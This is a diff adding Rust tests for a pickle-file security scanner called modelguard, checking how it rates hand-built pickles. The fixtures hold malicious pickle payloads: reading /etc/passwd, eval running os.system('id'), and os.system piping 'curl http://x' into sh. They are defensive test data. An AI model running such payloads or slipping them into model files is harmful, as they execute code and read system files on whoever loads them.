@@ -1,0 +1,49 @@
+//! Judge behaviours built from small hand-assembled pickles (protocol 0: readable bytes).
+#![allow(clippy::indexing_slicing)]
+
+use modelguard::Scanner;
+use modelguard::report::{Severity, Status, Verdict};
+
+fn scan(p: &[u8]) -> modelguard::report::FileReport {
+    Scanner::default().scan_bytes("x.pkl", p)
+}
+
+#[test]
+fn arguments_matter_for_file_reads() {
+    let outside = scan(b"c__builtin__\nopen\n(S'/etc/passwd'\ntR.");
+    let inside = scan(b"c__builtin__\nopen\n(S'notes.txt'\ntR.");
+    assert_eq!(outside.max_severity(), Some(Severity::High), "{outside:?}");
+    assert!(outside.findings[0].message.contains("outside the model"));
+    assert_eq!(inside.max_severity(), Some(Severity::Medium), "{inside:?}");
+}
+
+#[test]
+fn eval_is_judged_by_its_code() {
+    let inert = scan(b"c__builtin__\neval\n(S'1+1'\ntR.");
+    assert_eq!(inert.verdict, Verdict::Safe, "{inert:?}");
+    let evil = scan(b"c__builtin__\neval\n(S\"__import__('os').system('id')\"\ntR.");
+    assert_eq!(evil.max_severity(), Some(Severity::Critical));
+    assert!(
+        evil.findings
+            .iter()
+            .any(|f| f.message.contains("os.system"))
+    );
+}
+
+#[test]
+fn unparseable_code_is_incomplete_not_safe() {
+    let r = scan(b"c__builtin__\nexec\n(S'def ('\ntR.");
+    assert_eq!(r.status, Status::Incomplete, "{r:?}");
+    assert_ne!(r.verdict, Verdict::Safe);
+}
+
+#[test]
+fn shell_pipelines_are_named() {
+    let r = scan(b"cos\nsystem\n(S'curl http://x | sh'\ntR.");
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "MG-PKL-PROC" && f.message.contains("shell pipeline")),
+        "{r:?}"
+    );
+}
